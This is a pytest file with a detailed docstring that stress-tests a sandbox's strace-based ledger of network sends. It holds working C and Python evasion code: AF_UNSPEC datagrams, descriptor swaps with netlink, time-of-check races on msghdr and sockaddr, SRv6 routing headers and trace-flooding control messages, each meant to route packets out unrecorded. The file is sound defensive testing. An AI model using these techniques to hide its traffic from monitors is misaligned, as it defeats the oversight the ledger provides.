"""Attacks on ADR 0047 point 15 (2026-12-06): sends that name an address are socket-ledger entries.

The change: strace traces ``connect,sendto,sendmsg,sendmmsg,...`` with ``-s 0`` (no payload),
``sendmmsg`` injected ENOSYS; ``verify/socket_trace.py`` (``_CALL``, ``_ARGUMENTS``,
``_attempt``, ``_outcome``, ``_RESUMED``) makes an entry of each ``sendto``/``sendmsg`` that
names an address (outcome ``sent`` when it went), none of one with a NULL address or an
address of length 0; ``verify/_facts.py`` ``host_socket`` counts a datagram ``sent`` to a path
under ``/run``. The adversary is a hostile harness driven for real through ``run_sandboxed``
(and, second, a publisher who writes trace lines); its goal: a send (or connect) the kernel
routes to a non-loopback address (93.184.216.34 or 2001:db8::1: ENETUNREACH in the sandbox's
namespace, which has no route out) with no off-sandbox entry in ``SandboxResult.ledger``, a
supervisor or verifier that fails with a traceback, or an honest harness whose ledger changes.
Each test asserts the safe behaviour; a hole is a strict xfail that says what happens and where.
Nothing was sent from the host's namespace but to loopback; vsock was tried only as a socket.

Holes (kernel 6.18, strace 6.1, x86-64). All closed the same day but for the address in 3,
each test failing before its fix: 1 (a send to ``AF_UNSPEC`` is an attempt, outside), 2
(``...`` read as a buffer, and a traced call's line in a form the parser does not know is an
attempt to an unknown address, outside, never skipped), 3 and 4 (any call the kernel found no
route for is outside whatever strace read: in the sandbox no loopback address, nor none, is
unreachable, so ``ENETUNREACH`` or ``EHOSTUNREACH`` proves the kernel sent it elsewhere;
``verify/socket_trace.py`` ``UNREACHABLE``, ``verify/_facts.py`` ``off_sandbox``), 5 (the trace
is kept to ``SandboxLimits.trace_bytes``, 64 MiB by default, the command killed past it: the
``trace`` limit). 3 stays a strict xfail for the address: the entry says the address is not
known.

1. A datagram whose ``sa_family`` is ``AF_UNSPEC`` goes where its bytes say, with no entry.
   ``udp_sendmsg`` (UDP and UDP-Lite over IPv4) takes ``AF_UNSPEC`` as ``AF_INET`` and reads the
   port and address from the same bytes; strace shows ``{sa_family=AF_UNSPEC,
   sa_data="\\0005]\\270\\330\\"..."}`` and ``_address`` returns None for every family in
   ``NOT_ATTEMPTS``, so ``trace_entries`` skips the line: ``sendto``/``sendmsg`` to
   93.184.216.34:53 end ENETUNREACH and the ledger is empty (to 127.0.0.1 the datagram is
   delivered). A publisher's trace holding such lines is accepted by the verifier for the same
   reason. Fix: ``NOT_ATTEMPTS`` is for ``connect()`` only (where ``AF_UNSPEC`` dissolves an
   association); for a send, ``AF_UNSPEC`` is an attempt: decode ``sa_data``'s first six bytes
   (C escapes) as port and IPv4 address, as the kernel does, and record it as ``AF_INET`` (or,
   simpler, as ``unreadable``, outside). ``AF_NETLINK`` on a send is refused by every IP socket
   (EAFNOSUPPORT/EINVAL) and may stay no attempt.
2. A ``sendto`` line whose buffer strace shows as ``...`` is skipped. strace decodes the buffer
   of a netlink socket's ``sendto`` as netlink messages, ``...`` at ``-s 0`` (``ip`` writes
   such lines in every sandbox), and ``_ARGUMENTS["sendto"]`` accepts only ``""``/``""...``, a
   pointer or ``NULL`` there. A thread that ``dup2``s a UDP socket and a netlink socket over
   one descriptor in turn makes strace see netlink (its ``getxattr`` of the descriptor) and the
   kernel send UDP: ``sendto(100, ..., 32, 0, {sa_family=AF_INET, ...
   inet_addr("93.184.216.34")}, 16) = -1 ENETUNREACH``, the address shown whole, no entry
   (about 480 of 3,000 sends; a run now and then has none). Fix: accept ``\\.\\.\\.`` as a
   buffer; and fail closed: a line ``_CALL`` matches (``connect``/``sendto``/``sendmsg``) that
   ``_ARGUMENTS`` cannot read should be an ``unreadable`` entry (or a ``TraceError``), never
   skipped.
3. The sends' time-of-check/time-of-use race drops entries altogether (the connect() race, an
   xfail of ``test_attacks_2026_12_06_trace.py``, only mislabels them). strace reads the
   ``msghdr`` or ``sockaddr`` at the seccomp stop, the kernel after; another thread flipping
   ``msg_namelen`` between 0 and 16 (strace sees no address: no entry) or ``sa_family`` between
   ``AF_NETLINK`` and ``AF_INET`` (strace sees netlink: no entry) gets ~170 and ~90 datagrams of
   2,000 routed to 93.184.216.34 with no entry (some runs none: the tests try three). Fix: not
   in a ptrace trace. Record the kernel's copy: a cgroup ``sock_addr`` BPF program
   (``connect4/6``, ``sendmsg4/6``) on the sandbox's cgroup, or a default route in the
   namespace to a dummy device whose nftables log sees every packet that leaves. Meanwhile the
   verifier could count a loopback entry whose outcome is ENETUNREACH/EHOSTUNREACH
   (impossible for loopback) as outside, and the parser an address-less send that failed with
   ENETUNREACH as an attempt to an unknown address.
4. An IPv6 segment routing header sends a packet "to ::1" somewhere else. ``setsockopt(
   IPPROTO_IPV6, IPV6_RTHDR)`` of a type-4 header (SRv6) needs no privilege, and
   ``fl6_update_dst`` routes every later send and connect of the socket to the header's segment:
   ``sendto(('::1', 9999))`` and ``connect(('::1', 9))`` end ENETUNREACH (2001:db8::1 has no
   route), and the ledger has ``AF_INET6 ::1`` entries, loopback, not outside. Not new with
   the change (connect() too). Fix: the sandbox refuses the option (a seccomp filter of the
   inside part, by argument: ``setsockopt`` with level ``IPPROTO_IPV6`` and ``IPV6_RTHDR`` or
   ``IPV6_2292RTHDR``: EPERM), and the verifier's check of point 3 (loopback + ENETUNREACH).
5. The trace is unbounded, and a send now writes up to ~570 KB of it. strace shows every
   control message of a ``sendmsg`` (up to ``optmem_max``, 128 KiB: 8,192 of them), on a
   connected socket too, where the line is no entry: 100 such calls (0.5 s) made a 57 MB trace
   holding one ledger entry, ~115 MB/s, all kept in the supervisor's memory (``_Watch.data``)
   and in the bundle (24 GB of RAM gone in minutes; a connect() flood makes ~6 MB/s, each line
   an entry). Fix: a limit on the trace's size in ``SandboxLimits``, the run killed and failed
   with a clear reason beyond it (as the inactivity limit), checked by the verifier too.

Held: the i386 ABI (``int 0x80``: ``sendto``, ``sendmsg``, ``socketcall(SYS_SENDTO,
SYS_SENDMSG)``) is traced and recorded, ``sendmmsg`` is absent in every ABI (i386 345,
``socketcall(SYS_SENDMMSG)``, x32, x86-64; the kernel has no x32); a sweep of ``sendto``
(flags, address lengths 16-128, NULL and unreadable buffers) and ``sendmsg`` (name lengths up
to 0x7fffffff, control messages, ``msg_flags``, no or bad iov) has an entry for every send the
kernel took, and every line parses; a send whose address sits across a page end or whose length
is 0 (EINVAL, EDESTADDRREQ, ENOTCONN: the kernel takes none) is as the parser says; TCP Fast
Open by ``sendmsg`` and MPTCP, an IPv6 socket's v4-mapped and ``AF_INET`` sends; a Fast Open
left blocked at exit (``<unfinished ...>`` then ``= ?``) is an EUNKNOWN entry; ``sun_path``
is shown whole at ``-s 0`` (odd abstract names with ``"}, `` too); IPv4 source routes
(``IP_OPTIONS``/``IP_RETOPTS`` LSRR: EPERM) and the IPv6 routing header as a control message
(EINVAL) are refused; raw, packet and ping sockets cannot be made, vsock datagrams neither
(ENODEV); the longest ``sendmsg`` line (~570 KB) is under ``MAX_LINE``; a forged ``sent``
datagram to a path under ``/run`` (however spelled) fails the verifier's isolation check.
Honest side: a connected socket's sends are no entries, but each stops for strace and writes a
line: 100,000 ``send()`` of 10 bytes took 5.4 s (``os.write`` on the same socket: 0.09 s) and
6.7 MB of trace. Observed, not tested: ``::ffff:127.0.0.1`` (a Java client's dual-stack
loopback) counts as outside (``ipaddress`` of Python 3.11), as for connect() before.
"""

from __future__ import annotations

import collections
import os
import sys
import time
from pathlib import Path

import pytest

from audit.sandbox import TRACE_BYTES
from bundle_schema.models import SocketLedgerEntry
from tests.sandbox_kit import compiled as _compiled
from tests.sandbox_kit import harness as _harness
from tests.sandbox_kit import outside as _outside
from tests.sandbox_kit import said as _said
from tests.sandbox_kit import sandboxed as _sandboxed
from verify._facts import off_sandbox
from verify.socket_trace import MAX_LINE, trace_entries, trace_header

REMOTE = "93.184.216.34"
"""Only ever tried from inside the sandbox's network namespace (no route: ENETUNREACH)."""

PRELUDE = """
import errno, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.sendto.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                        ctypes.c_void_p, ctypes.c_uint32]
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.c_void_p),
                ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p),
                ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int)]
KEEP = []
def buffer(data):
    made = ctypes.create_string_buffer(data, max(len(data), 1))
    KEEP.append(made)
    return ctypes.addressof(made)
def sin(address, port, family=socket.AF_INET, pad=8):
    return (struct.pack('=H', family) + struct.pack('!H', port) + socket.inet_aton(address)
            + bytes(pad))
def sendmsg(fd, name, namelen, control=b'', flags=0, iov='one'):
    vector = iovec(buffer(b'hi'), 2)
    KEEP.append(vector)
    where, count = {'one': (ctypes.addressof(vector), 1), 'none': (None, 0),
                    'bad': (16, 3)}[iov]
    header = msghdr(None if name is None else buffer(name), namelen, where, count,
                    buffer(control) if control else None, len(control), 0)
    done = libc.sendmsg(fd, ctypes.byref(header), flags)
    return 'ok' if done >= 0 else errno.errorcode[ctypes.get_errno()]
def sendto(fd, name, namelen, data=b'hi', flags=0):
    done = libc.sendto(fd, buffer(data), len(data), flags, None if name is None else buffer(name),
                       namelen)
    return 'ok' if done >= 0 else errno.errorcode[ctypes.get_errno()]
"""
"""What the harnesses here share: raw ``sendto``/``sendmsg`` by ctypes, each saying ``ok`` or
its error's name."""


def _trace(*lines: str) -> list[SocketLedgerEntry]:
    text = "".join(f"{line}\n" for line in lines)
    return list(trace_entries([trace_header(1.0, 0, "coding").encode(), text.encode()]))


def _raced(command: list[str], tmp_path: Path) -> int:
    """How many of the sends ``command`` says the kernel routed to :data:`REMOTE` (it prints
    their count) have no entry of theirs: up to three runs, the first that has one (a race
    lost in every try of a run happens)."""
    missing = 0
    for _ in range(3):
        result = _sandboxed(command, tmp_path)
        assert result.returncode == 0, result.stderr
        seen = collections.Counter((e.address, e.outcome) for e in result.ledger)
        missing = max(0, int(result.stdout) - seen[(REMOTE, "ENETUNREACH")])
        if missing:
            break
    return missing


# --- holes -------------------------------------------------------------------------------------

UNSPEC = (
    PRELUDE
    + """
sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sink.bind(('127.0.0.1', 9999))
sink.settimeout(2)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print('local', sendto(udp.fileno(), sin('127.0.0.1', 9999, family=0), 16), sink.recv(9), flush=True)
print('sendto', sendto(udp.fileno(), sin('93.184.216.34', 53, family=0), 16), flush=True)
print('sendmsg', sendmsg(udp.fileno(), sin('93.184.216.34', 53, family=0), 16), flush=True)
lite = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)  # IPPROTO_UDPLITE
print('udplite', sendto(lite.fileno(), sin('93.184.216.34', 53, family=0), 16), flush=True)
"""
)


def test_a_datagram_named_af_unspec_is_in_the_ledger(tmp_path: Path, sandbox: None) -> None:
    result = _harness(tmp_path, UNSPEC)
    lines = _said(result)
    assert lines[0] == "local ok b'hi'", lines  # the kernel read the address from sa_data
    reached = [line for line in lines[1:] if line.endswith("ENETUNREACH")]
    assert len(reached) == 3, lines  # each one routed to 93.184.216.34
    assert len(_outside(result)) >= len(reached), result.trace.decode()


SWAP_C = r"""
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static int udp, nl;
static volatile int stop;
static void *flip(void *arg) {  /* descriptor 100: a UDP socket, then a netlink one, in turn */
    (void)arg;
    while (!stop) { dup2(udp, 100); dup2(nl, 100); }
    return NULL;
}
int main(int argc, char **argv) {
    int n = atoi(argv[1]), unreach = 0;
    char buf[32];  /* a netlink message's length at least: strace decodes it, "..." at -s 0 */
    memset(buf, 0, sizeof buf);
    buf[0] = sizeof buf;
    struct sockaddr_in remote;
    memset(&remote, 0, sizeof remote);
    remote.sin_family = AF_INET;
    remote.sin_port = htons(53);
    inet_pton(AF_INET, "93.184.216.34", &remote.sin_addr);
    udp = socket(AF_INET, SOCK_DGRAM, 0);
    nl = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    dup2(udp, 100);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    for (int i = 0; i < n; i++)
        if (sendto(100, buf, sizeof buf, 0, (struct sockaddr *)&remote, sizeof remote) < 0
            && errno == ENETUNREACH)
            unreach++;  /* the kernel sent on the UDP socket */
    stop = 1;
    pthread_join(t, NULL);
    printf("%d\n", unreach);
    return 0;
}
"""


def test_a_send_strace_shows_with_a_netlink_buffer_is_in_the_ledger(
    tmp_path: Path, sandbox: None
) -> None:
    swap = _compiled(tmp_path, "swap", SWAP_C, "-O1", "-pthread")
    assert _raced([str(swap), "10000"], tmp_path) == 0


@pytest.mark.parametrize(
    "line",
    [
        '9<h> 2.000000 sendto(3, ""..., 2, 0, {sa_family=AF_UNSPEC, '
        'sa_data="\\0005]\\270\\330\\"\\0\\0\\0\\0\\0\\0\\0\\0"}, 16) = -1 ENETUNREACH '
        "(Network is unreachable)",
        "9<h> 2.000000 sendmsg(3, {msg_name={sa_family=AF_UNSPEC, "
        'sa_data="\\0005]\\270\\330\\"\\0\\0\\0\\0\\0\\0\\0\\0"}, msg_namelen=16, msg_iov=[...], '
        "msg_iovlen=1, msg_controllen=0, msg_flags=0}, 0) = -1 ENETUNREACH "
        "(Network is unreachable)",
        "9<h> 2.000000 sendto(100, ..., 32, 0, {sa_family=AF_INET, sin_port=htons(53), "
        'sin_addr=inet_addr("93.184.216.34")}, 16) = -1 ENETUNREACH (Network is unreachable)',
    ],
    ids=["sendto-af-unspec", "sendmsg-af-unspec", "sendto-netlink-buffer"],
)
def test_a_forged_or_real_send_line_with_an_address_is_an_entry(line: str) -> None:
    entries = _trace(line)
    assert len(entries) == 1
    assert off_sandbox(entries[0])


RACE_C = r"""
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static struct sockaddr_in remote;
static struct sockaddr_storage shared;
static struct msghdr msg;
static volatile int stop, mode;
static void *flip(void *arg) {
    (void)arg;
    while (!stop) {
        if (mode == 0) {  /* sendmsg: the name's length, 0 (no name) and 16 */
            msg.msg_namelen = 0;
            __atomic_thread_fence(__ATOMIC_SEQ_CST);
            msg.msg_namelen = sizeof remote;
        } else {  /* sendto: the family, AF_NETLINK (no attempt) and AF_INET */
            ((struct sockaddr *)&shared)->sa_family = AF_NETLINK;
            __atomic_thread_fence(__ATOMIC_SEQ_CST);
            ((struct sockaddr *)&shared)->sa_family = AF_INET;
        }
        __atomic_thread_fence(__ATOMIC_SEQ_CST);
    }
    return NULL;
}
int main(int argc, char **argv) {
    int n = atoi(argv[2]), unreach = 0;
    mode = atoi(argv[1]);
    memset(&remote, 0, sizeof remote);
    remote.sin_family = AF_INET;
    remote.sin_port = htons(53);
    inet_pton(AF_INET, "93.184.216.34", &remote.sin_addr);
    memcpy(&shared, &remote, sizeof remote);
    char data[2] = "hi";
    struct iovec v = {data, 2};
    msg.msg_name = &shared; msg.msg_namelen = sizeof remote; msg.msg_iov = &v; msg.msg_iovlen = 1;
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    for (int i = 0; i < n; i++) {
        long r = mode == 0 ? sendmsg(u, &msg, 0)
                           : sendto(u, data, 2, 0, (struct sockaddr *)&shared, sizeof remote);
        if (r < 0 && errno == ENETUNREACH)
            unreach++;  /* the kernel read the whole address: 93.184.216.34 */
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("%d\n", unreach);
    return 0;
}
"""


@pytest.mark.xfail(
    strict=True,
    reason="HOLE: strace reads the msghdr/sockaddr at the seccomp stop, the kernel after; a "
    "thread flipping msg_namelen 0/16 or sa_family AF_NETLINK/AF_INET makes strace see no "
    "address for datagrams the kernel routes to 93.184.216.34 (TOCTOU of a ptrace trace): "
    "each is an entry since, outside (the kernel found no route: verify/socket_trace.py "
    "UNREACHABLE), but of an address not known",
)
@pytest.mark.parametrize("mode", ["sendmsg-namelen", "sendto-family"])
def test_every_send_the_kernel_routed_outside_is_in_the_ledger(
    tmp_path: Path, sandbox: None, mode: str
) -> None:
    race = _compiled(tmp_path, "race", RACE_C, "-O1", "-pthread")
    number = "0" if mode == "sendmsg-namelen" else "1"
    assert _raced([str(race), number, "10000"], tmp_path) == 0


@pytest.mark.parametrize("mode", ["sendmsg-namelen", "sendto-family"])
def test_held_every_send_the_kernel_routed_outside_counts_as_outside(
    tmp_path: Path, sandbox: None, mode: str
) -> None:
    """The race above loses the address, not the attempt: a send the kernel found no route for
    is an entry whatever strace read of it, and outside."""
    race = _compiled(tmp_path, "race", RACE_C, "-O1", "-pthread")
    result = _sandboxed([str(race), "0" if mode == "sendmsg-namelen" else "1", "2000"], tmp_path)
    assert result.returncode == 0, result.stderr
    routed = int(result.stdout)
    outside = [e for e in result.ledger if off_sandbox(e) and e.outcome == "ENETUNREACH"]
    assert routed > 0 and len(outside) == routed, (routed, len(outside))


SEGMENT = """
segment = socket.inet_pton(socket.AF_INET6, '2001:db8::1')
header = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + segment  # SRv6, type 4: one segment, 2001:db8::1
sink = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
sink.bind(('::1', 9999))
udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
print('plain', udp.sendto(b'x', ('::1', 9999)), flush=True)
try:
    udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
except OSError as exc:
    print('refused', exc.errno, flush=True)
    raise SystemExit(0)
try:
    print('udp', udp.sendto(b'x', ('::1', 9999)), flush=True)
except OSError as exc:
    print('udp', exc.errno, flush=True)
tcp = socket.socket(socket.AF_INET6)
tcp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
print('tcp', tcp.connect_ex(('::1', 9)), flush=True)
"""


def test_a_routing_header_does_not_hide_where_a_packet_goes(tmp_path: Path, sandbox: None) -> None:
    result = _harness(tmp_path, SEGMENT)
    lines = _said(result)
    if lines[1:2] and lines[1].startswith("refused"):
        pytest.skip(f"this kernel refuses an SRv6 header: {lines}")
    assert lines == ["plain 1", "udp 101", "tcp 101"], lines  # both went to 2001:db8::1
    assert len(_outside(result)) == 2, [(e.address, e.outcome) for e in result.ledger]


CONTROL = (
    PRELUDE
    + """
count, calls = int(sys.argv[1]), int(sys.argv[2])
control = struct.pack('=Qii', 16, 1, 0x7777) * count  # header-only control messages
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(('127.0.0.1', 9))
for _ in range(calls):
    done = sendmsg(udp.fileno(), None, 0, control)
print('control', done, flush=True)
"""
)


def test_a_harness_s_trace_is_bounded(tmp_path: Path, sandbox: None) -> None:
    result = _harness(tmp_path, CONTROL, "8192", "300")
    header = result.trace.split(b"\n", 1)[0]
    assert result.timeout == "trace" and result.returncode is None, (
        result.timeout,
        result.returncode,
    )
    assert len(result.trace) == len(header) + 1 + TRACE_BYTES, len(result.trace)


# --- held --------------------------------------------------------------------------------------

I386_C = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
static long int80(long nr, long a, long b, long c, long d, long e, long f) {
    long ret;
    __asm__ volatile ("push %%rbp\n mov %7, %%rbp\n int $0x80\n pop %%rbp"
                      : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "g"(f)
                      : "memory");
    return ret;
}
static long x32(long nr, long a, long b, long c, long d, long e, long f) {
    long ret;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile ("syscall" : "=a"(ret) : "a"(nr | 0x40000000L), "D"(a), "S"(b), "d"(c),
                      "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
    return ret;
}
struct msghdr32 { uint32_t name, namelen, iov, iovlen, control, controllen, flags; };
struct iovec32 { uint32_t base, len; };
struct mmsghdr32 { struct msghdr32 hdr; uint32_t len; };
int main(void) {
    unsigned char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                              MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    struct sockaddr_in *sin = (struct sockaddr_in *)low;
    memset(sin, 0, sizeof *sin);
    sin->sin_family = AF_INET;
    sin->sin_port = htons(53);
    inet_pton(AF_INET, "93.184.216.34", &sin->sin_addr);
    char *data = (char *)low + 32;
    strcpy(data, "hi");
    struct iovec32 *iov = (struct iovec32 *)(low + 64);
    iov->base = (uint32_t)(uintptr_t)data;
    iov->len = 2;
    struct msghdr32 *m = (struct msghdr32 *)(low + 128);
    memset(m, 0, sizeof *m);
    m->name = (uint32_t)(uintptr_t)sin;
    m->namelen = 16;
    m->iov = (uint32_t)(uintptr_t)iov;
    m->iovlen = 1;
    struct mmsghdr32 *mm = (struct mmsghdr32 *)(low + 256);
    memset(mm, 0, sizeof *mm);
    mm->hdr = *m;
    unsigned int *args = (unsigned int *)(low + 512);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    printf("i386-sendto %ld\n", int80(369, u, (long)data, 2, 0, (long)sin, 16));
    printf("i386-sendmsg %ld\n", int80(370, u, (long)m, 0, 0, 0, 0));
    printf("i386-sendmmsg %ld\n", int80(345, u, (long)mm, 1, 0, 0, 0));
    args[0] = u; args[1] = (uint32_t)(uintptr_t)data; args[2] = 2; args[3] = 0;
    args[4] = (uint32_t)(uintptr_t)sin; args[5] = 16;
    printf("socketcall-sendto %ld\n", int80(102, 11, (long)args, 0, 0, 0, 0));
    args[0] = u; args[1] = (uint32_t)(uintptr_t)m; args[2] = 0;
    printf("socketcall-sendmsg %ld\n", int80(102, 16, (long)args, 0, 0, 0, 0));
    args[0] = u; args[1] = (uint32_t)(uintptr_t)mm; args[2] = 1; args[3] = 0;
    printf("socketcall-sendmmsg %ld\n", int80(102, 20, (long)args, 0, 0, 0, 0));
    printf("x32-sendto %ld\n", x32(44, u, (long)data, 2, 0, (long)sin, 16));
    printf("x32-sendmmsg %ld\n", x32(538, u, (long)mm, 1, 0, 0, 0));
    struct mmsghdr mm64;
    memset(&mm64, 0, sizeof mm64);
    struct iovec v = {data, 2};
    mm64.msg_hdr.msg_name = sin;
    mm64.msg_hdr.msg_namelen = 16;
    mm64.msg_hdr.msg_iov = &v;
    mm64.msg_hdr.msg_iovlen = 1;
    long done = syscall(SYS_sendmmsg, u, &mm64, 1, 0);
    printf("sendmmsg %ld\n", done < 0 ? -(long)errno : done);
    return 0;
}
"""


def test_held_i386_and_socketcall_sends_are_recorded_and_sendmmsg_is_absent(
    tmp_path: Path, sandbox: None
) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("int 0x80 is x86_64's")
    result = _sandboxed([str(_compiled(tmp_path, "i386", I386_C, "-O1"))], tmp_path)
    lines = _said(result)
    assert lines[:6] == ["i386-sendto -101", "i386-sendmsg -101", "i386-sendmmsg -38",
                         "socketcall-sendto -101", "socketcall-sendmsg -101",
                         "socketcall-sendmmsg -38"]  # fmt: skip
    assert lines[7:] == ["x32-sendmmsg -38", "sendmmsg -38"], lines
    tried = 4 + (lines[6] != "x32-sendto -38")  # no x32 ABI in this kernel: ENOSYS
    assert _outside(result)[:4] == [("AF_INET", REMOTE, 53, "ENETUNREACH")] * 4
    assert len(_outside(result)) >= tried
    assert result.trace.count(b"(INJECTED)") == 4, result.trace.decode()


SWEEP = (
    PRELUDE
    + """
import mmap
sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sink.bind(('127.0.0.1', 9999))
sink.setblocking(False)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
page = mmap.mmap(-1, 8192)
base = ctypes.addressof(ctypes.c_char.from_buffer(page))
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.mprotect(base + 4096, 4096, 0)  # the second page unreadable
took = 0
def tally(outcome):
    global took
    took += outcome in ('ok', 'ENETUNREACH')  # the kernel took the address
for address in ('127.0.0.1', '93.184.216.34'):
    for length in (16, 17, 64, 128):
        for flags in (0, 0x40, 0x4000 | 0x40 | 0x8000, 0x80000000, 0x1 | 0x4 | 0x800 | 0x10000):
            tally(sendto(udp.fileno(), sin(address, 9999, pad=length - 8), length, flags=flags))
            tally(sendto(udp.fileno(), sin(address, 9999, pad=length - 8), length, b'', flags))
            done = libc.sendto(udp.fileno(), base + 4096, 2, flags,
                               buffer(sin(address, 9999, pad=length - 8)), length)
            tally('ok' if done >= 0 else errno.errorcode[ctypes.get_errno()])
    for namelen in (16, 17, 128, 129, 4096, 0x7fffffff):
        for control in (b'', struct.pack('=QiiI', 20, 0, 2, 64) + bytes(4)):
            for iov in ('one', 'none', 'bad'):
                tally(sendmsg(udp.fileno(), sin(address, 9999, pad=128), namelen, control, 0x40,
                              iov))
page[4088:4096] = sin('93.184.216.34', 9999)[:8]  # an address across a page's end
print('across', libc.sendto(udp.fileno(), None, 0, 0, base + 4088, 16), ctypes.get_errno())
tcp = socket.socket()
print('fastopen', sendmsg(tcp.fileno(), sin('93.184.216.34', 443), 16, flags=0x20000000))
mptcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
print('mptcp', sendmsg(mptcp.fileno(), sin('93.184.216.34', 443), 16, flags=0x20000000))
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for target in (('::ffff:93.184.216.34', 9), ('2001:db8::1', 9)):
    try:
        six.sendto(b'x', target)
    except OSError as exc:
        tally(errno.errorcode[exc.errno])
tally(sendto(six.fileno(), sin('93.184.216.34', 9), 16))  # AF_INET on an IPv6 socket
print('took', took + 2, flush=True)  # and the two Fast Opens
"""
)


def test_held_every_send_the_kernel_took_is_an_entry_and_every_line_parses(
    tmp_path: Path, sandbox: None
) -> None:
    from verify.socket_trace import _ARGUMENTS, _CALL  # noqa: PLC0415 - the parser's own

    result = _harness(tmp_path, SWEEP)
    lines = _said(result)
    took = int(lines[-1].split()[1])
    assert lines[:3] == ["across -1 14", "fastopen ENETUNREACH", "mptcp ENETUNREACH"], lines
    sent = [e for e in result.ledger if e.outcome in ("sent", "ENETUNREACH")]
    assert len(sent) == took, collections.Counter((e.address, e.outcome) for e in result.ledger)
    for line in result.trace.decode().splitlines()[1:]:
        call = _CALL.match(line)
        assert call is not None and _ARGUMENTS[call["call"]].match(call["args"]), line
    assert all(off_sandbox(e) for e in sent if e.address != "127.0.0.1"), sent


EMPTY = (
    PRELUDE
    + """
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print('udp', sendto(udp.fileno(), sin('93.184.216.34', 53), 0),
      sendmsg(udp.fileno(), sin('93.184.216.34', 53), 0))
tcp = socket.socket()
print('tcp', sendto(tcp.fileno(), sin('93.184.216.34', 443), 0, flags=0x20000000),
      sendmsg(tcp.fileno(), sin('93.184.216.34', 443), 0, flags=0x20000000))
unix = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
print('unix', sendto(unix.fileno(), b'\\1\\0/run/systemd/journal/socket', 0))
"""
)


def test_held_a_send_whose_address_has_length_0_reaches_nothing(
    tmp_path: Path, sandbox: None
) -> None:
    result = _harness(tmp_path, EMPTY)
    assert _said(result) == [
        "udp EINVAL EDESTADDRREQ",  # sendto: a name of length 0 is refused; sendmsg: none
        "tcp EINVAL EINVAL",  # Fast Open needs an address of the family's length
        "unix ENOTCONN",
    ]
    assert result.ledger == ()


BLOCKED = """
import threading
libc = ctypes.CDLL(None, use_errno=True)
assert libc.unshare(0x40000000) == 0  # a network namespace of its own, with a route into lo
for command in (['ip', 'link', 'set', 'lo', 'up'],
                ['ip', 'route', 'add', '93.184.216.34/32', 'dev', 'lo']):
    subprocess.run(command, check=True)
def blocked():  # MSG_FASTOPEN: a SYN no one answers, the call blocks
    socket.socket().sendto(b'GET', 0x20000000, ('93.184.216.34', 443))
threading.Thread(target=blocked, daemon=True).start()
time.sleep(0.3)
print('other', socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9)),
      flush=True)
os._exit(0)
"""


def test_held_a_send_left_blocked_when_the_harness_exits_is_recorded(
    tmp_path: Path, sandbox: None
) -> None:
    result = _harness(tmp_path, BLOCKED)
    assert _said(result) == ["other 1"]
    assert b"<unfinished ...>" in result.trace, result.trace.decode()
    assert _outside(result) == [("AF_INET", REMOTE, 443, "EUNKNOWN")]


ROUTES = (
    PRELUDE
    + """
lsrr = bytes([0x83, 7, 4]) + socket.inet_aton('93.184.216.34') + bytes([1])  # via, then a NOP
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    udp.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, lsrr)
    print('ip_options set')
except OSError as exc:
    print('ip_options', errno.errorcode[exc.errno])
joined = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
joined.connect(('127.0.0.1', 9))
try:
    joined.sendmsg([b'x'], [(socket.IPPROTO_IP, 7, lsrr)])  # IP_RETOPTS
    print('ip_retopts sent')
except OSError as exc:
    print('ip_retopts', errno.errorcode[exc.errno])
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
six.connect(('::1', 9))
for kind in (0, 2, 4):
    header = bytes([0, 2, kind, 1 if kind != 4 else 0, 0, 0, 0, 0])
